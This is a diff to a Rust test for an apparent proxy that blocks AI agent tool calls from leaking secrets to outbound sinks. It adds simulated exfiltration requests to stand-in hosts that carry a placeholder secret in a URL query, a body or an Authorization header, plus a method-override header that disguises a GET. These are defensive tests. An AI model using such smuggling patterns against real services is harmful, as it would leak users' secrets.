@@ -721,7 +721,7 @@ network:
         r#"[{"id":"AG-TRIFECTA","sink":"post_note","witness":"fetch_page -> __llm__ -> post_note",
              "runtime":{"untrusted":"fetch_page","secret":"read_vault","sink":"post_note",
                         "untrustedHosts":["status.example.test"],
-                        "sinkRegions":[{"hosts":["other.example.test"],"methods":["POST"]},{"hosts":["raw.example.test"]}]}}]"#,
+                        "sinkRegions":[{"hosts":["other.example.test"],"methods":["POST"]},{"hosts":["raw.example.test"],"methods":["POST"]}]}}]"#,
     )
     .unwrap();
     h.start_proxy(&[]);
@@ -794,13 +794,40 @@ network:
         body.contains("cannot be read (its body has the content coding"),
         "{body}"
     );
-    // A tunnel into the sink's region is not read at all: refused now.
-    // (Before, it would pass, and the record would count as evicted from
-    // then on: what came back through it is unread.)
+    // A name carries a value as well as a value does; a body is read every
+    // way a server might (curl calls this JSON a form); a method override
+    // makes a GET the sink's POST; a credential is a header's part.
+    for (path, headers, body) in [
+        ("/notes?hunter2-secret-77", vec![], ""),
+        ("/notes", vec![], secret_note),
+        (
+            "/notes",
+            vec!["authorization: Bearer hunter2-secret-77"],
+            "{}",
+        ),
+    ] {
+        let (_, body, tail) = post("other.example.test", path, &headers, body);
+        assert_eq!(tail, "200 403 1.1", "{path} {headers:?}: {body}");
+    }
+    let (_, body, tail) = h.curl(&[
+        "-H",
+        "x-http-method-override: POST",
+        "--cacert",
+        &ca,
+        &h.url("other.example.test", "/notes?q=hunter2-secret-77"),
+    ]);
+    assert_eq!(tail, "200 403 1.1", "{body}");
+    // A tunnel to the sink's host is never read, and would stay open while
+    // content arrives: refused where the session is recorded, whatever
+    // the method the sink's region names.
     let upstream_ca = h.upstream_ca.display().to_string();
     let raw = h.url("raw.example.test", "/x");
-    let (code, _, tail) = h.curl(&["--cacert", &upstream_ca, &raw]);
+    let (code, body, tail) = h.curl(&["--cacert", &upstream_ca, &raw]);
     assert_ne!(code, 0, "{tail}");
+    assert!(
+        body.is_empty() || body.contains("runtime_trifecta"),
+        "{body}"
+    );
     // The poller reads them with the tool-call refusals.
     let (_, lineage) = h.get_metrics_path("/lineage");
     let lineage: Value = serde_json::from_str(&lineage).unwrap();
@@ -813,7 +840,9 @@ network:
         .collect();
     assert_eq!(
         refused,
-        ["request", "request", "request", "connect"],
+        [
+            "request", "request", "request", "request", "request", "request", "request", "connect"
+        ],
         "{lineage}"
     );
 }
